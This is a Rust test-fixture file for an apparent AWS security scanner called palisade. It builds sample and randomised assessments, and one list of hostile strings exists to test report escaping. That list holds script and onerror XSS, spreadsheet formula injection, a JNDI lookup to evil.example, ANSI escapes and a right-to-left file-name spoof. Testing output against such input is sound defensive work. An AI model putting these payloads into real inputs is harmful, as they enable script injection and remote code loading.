//! Assessments that the tests write: a small one for golden texts, a nasty one, and random ones.
#![allow(dead_code, reason = "each test uses a part of it")]

use palisade_core::{
    Assessment, CallError, CallErrorKind, CallStatistics, Category, CheckSummary, Coverage,
    ExpiredMute, Finding, FixAvailability, MutedBy, Muting, Severity, Status,
};
use proptest::prelude::*;
use std::sync::Arc;

/// Names that somebody could give a bucket, a tag or a role to reach whoever reads the report.
pub const NASTY: &[&str] = &[
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<!--<script>",
    "=HYPERLINK(\"http://evil.example\",\"x\")",
    "+1+1",
    "@SUM(A1)",
    "\u{1b}[31mred\u{1b}[0m",
    "\u{9b}31m",
    "two\nlines\r\nof text",
    "tab\tand\u{0}nul\u{7f}",
    "\"},{\"check\":\"injected\"",
    "\\",
    "]]>",
    "&amp;&lt;",
    "`code` ``and`` [link](http://evil.example) @everyone | cell",
    "\u{202e}gpj.exe",
    "\u{2028}\u{2029}",
    "\u{fffe}\u{ffff}",
    "${jndi:ldap://evil.example}",
    "{0} {{1}}",
    "ünï 日本語 🙂",
    " leading and trailing ",
];

pub fn finding(
    check: &str,
    status: Status,
    severity: Severity,
    id: &str,
    message: &str,
) -> Finding {
    Finding {
        check: check.into(),
        status,
        severity,
        account_id: "123456789012".into(),
        region: "eu-west-1".into(),
        resource: format!("arn:aws:s3:::{id}"),
        resource_id: id.to_owned(),
        resource_type: "s3_bucket".into(),
        message: message.to_owned(),
        evidence: serde_json::Map::new(),
        requirements: [
            "cis-aws-5.0/2.1.4".to_owned(),
            "cis-aws-5.0/2.1.10".to_owned(),
        ]
        .into(),
        fix: FixAvailability::Guided,
        history: None,
        missing_permissions: if status == Status::Unknown {
            vec!["s3:GetBucketPolicy".into()]
        } else {
            vec![]
        },
        muted: None,
    }
}

pub fn summary(id: &str, severity: Severity) -> CheckSummary {
    CheckSummary {
        id: id.into(),
        title: format!("title of {id}"),
        service: "s3".into(),
        severity,
        category: Category::Data,
        why: "It matters.".into(),
        fix: "Do this first. Then that.\n\nAnd mind the gap.".into(),
        requirements: vec!["cis-aws-5.0/2.1.4".into(), "cis-aws-5.0/2.1.10".into()],
        passed: 0,
        failed: 0,
        unknown: 0,
        manual: 0,
    }
}

pub fn assessment(findings: Vec<Finding>) -> Assessment {
    let denied = CallError {
        service: "s3".into(),
        operation: "GetBucketPolicy".into(),
        account_id: "123456789012".into(),
        region: "eu-west-1".into(),
        kind: CallErrorKind::Denied,
        code: "AccessDenied".into(),
        message: "Access Denied".into(),
        permissions: vec!["s3:GetBucketPolicy".into()],
    };
    Assessment {
        counted: palisade_core::Counted::default(),
        version: "0.1.0".into(),
        started_at: "2026-01-15T00:00:00Z".parse().unwrap(),
        accounts: vec!["123456789012".into()],
        regions: vec!["eu-west-1".into()],
        checks: vec![
            summary("s3-a", Severity::High),
            summary("s3-b", Severity::Low),
        ],
        findings,
        coverage: Coverage {
            calls: vec![CallStatistics {
                operation: "s3:GetBucketPolicy".into(),
                planned: 4,
                succeeded: 3,
                failed: 1,
                requests: 5,
                throttled: 1,
            }],
            failures: vec![(denied, 1)],
            skipped: vec![],
            left_out: vec![],
            interrupted: false,
        },
        last_scan: None,
        expired_mutes: vec![],
        frameworks: vec![],
    }
}

pub fn muting() -> Arc<Muting> {
    Arc::new(Muting {
        by: MutedBy::Mute,
        reason: "public on purpose".into(),
        owner: "web team".into(),
        expires: "2026-12-31".into(),
    })
}

/// Every status, a muted finding, evidence, a list that failed as a whole, and an expired mute.
pub fn sample() -> Assessment {
    let mut open = finding(
        "s3-a",
        Status::Fail,
        Severity::High,
        "one",
        "open to the world",
    );
    open.evidence.insert("public".into(), true.into());
    open.fix = FixAvailability::Automatic;
    let mut accepted = finding(
        "s3-b",
        Status::Fail,
        Severity::Low,
        "website",
        "open to the world",
    );
    accepted.muted = Some(muting());
    let mut unlisted = finding(
        "s3-b",
        Status::Unknown,
        Severity::Low,
        "",
        "s3:ListBuckets failed with AccessDenied",
    );
    unlisted.resource = String::new();
    let unreadable = "s3:GetBucketPolicy failed with AccessDenied";
    let mut all = assessment(vec![
        open,
        finding("s3-a", Status::Unknown, Severity::High, "three", unreadable),
        finding("s3-a", Status::Pass, Severity::High, "two", "closed"),
        unlisted,
        finding(
            "s3-b",
            Status::Fail,
            Severity::Low,
            "=one",
            "a \u{1b}[31mred\u{1b}[0m name",
        ),
        finding(
            "s3-b",
            Status::Manual,
            Severity::Low,
            "four",
            "ask the owner",
        ),
        finding(
            "s3-b",
            Status::NotApplicable,
            Severity::Low,
            "five",
            "a log bucket",
        ),
        accepted,
    ]);
    all.expired_mutes = vec![ExpiredMute {
        check: "s3-a".into(),
        reason: "until the move".into(),
        owner: "web team".into(),
        expires: "2025-12-31".into(),
        findings: 1,
    }];
    all
}

/// Every nasty text in every place that an account's owner, or anybody with an account, can fill.
pub fn nasty() -> Assessment {
    let mut findings = Vec::new();
    for (i, text) in NASTY.iter().enumerate() {
        let status = Status::ALL[i % Status::ALL.len()];
        let mut one = finding("s3-a", status, Severity::High, text, text);
        one.resource = format!("{text}#{i}");
        one.evidence.insert((*text).into(), (*text).into());
        if i % 3 == 0 {
            let mut muting = (*muting()).clone();
            muting.reason = (*text).into();
            muting.owner = (*text).into();
            one.muted = Some(Arc::new(muting));
        }
        findings.push(one);
    }
    let mut all = assessment(findings);
    for (i, text) in NASTY.iter().enumerate() {
        let mut lost = all.coverage.failures[0].clone();
        lost.0.message = (*text).into();
        lost.0.code = format!("{text}{i}");
        all.coverage.failures.push(lost);
    }
    all
}

/// Any assessment: the nasty texts and random ones, all statuses, muted and not.
pub fn any_assessment() -> impl Strategy<Value = Assessment> {
    let text = || {
        prop_oneof![
            prop::sample::select(NASTY).prop_map(str::to_owned),
            ".{0,40}"
        ]
    };
    let item = (
        prop::sample::select(&["s3-a", "s3-b"][..]),
        prop::sample::select(Status::ALL),
        text(),
        text(),
        any::<bool>(),
    );
    prop::collection::vec(item, 0..30).prop_map(|items| {
        let mut findings: Vec<Finding> = items
            .iter()
            .enumerate()
            .map(|(i, (check, status, id, message, muted))| {
                let mut one = finding(check, *status, Severity::High, id, message);
                one.resource = format!("{id}#{i}");
                one.evidence.insert(id.clone(), message.clone().into());
                one.muted = muted.then(muting);
                one
            })
            .collect();
        findings.sort_by(|a, b| a.sort_key().cmp(&b.sort_key()));
        assessment(findings)
    })
}

/// The sample as a scan of a framework leaves it: every requirement judged.
pub fn judged() -> Assessment {
    use palisade_core::{FrameworkSummary, RequirementStatus, RequirementSummary};
    let requirement = |id: &str, status, checks: &[&str], reason: &str| RequirementSummary {
        id: id.to_owned(),
        title: format!("about {id}"),
        kind: "automated".to_owned(),
        level: Some("1".to_owned()),
        status,
        reason: reason.to_owned(),
        checks: checks.iter().map(|c| (*c).to_owned()).collect(),
        not_run: vec![],
        passed: 0,
        failed: 0,
        unknown: 0,
        manual: 0,
    };
    let requirements = vec![
        requirement(
            "2.1.4",
            RequirementStatus::Failed,
            &["s3-a"],
            "2 findings failed",
        ),
        requirement(
            "2.1.1",
            RequirementStatus::Passed,
            &[],
            "attested elsewhere",
        ),
        requirement(
            "3.1",
            RequirementStatus::NotCovered,
            &[],
            "no check serves it",
        ),
        requirement("3.2", RequirementStatus::Aws, &[], "AWS answers for it"),
    ];
    let title = "CIS AWS Foundations Benchmark 5.0".to_owned();
    Assessment {
        frameworks: vec![FrameworkSummary::new(
            "cis-aws-5.0".to_owned(),
            title,
            requirements,
        )],
        ..sample()
    }
}
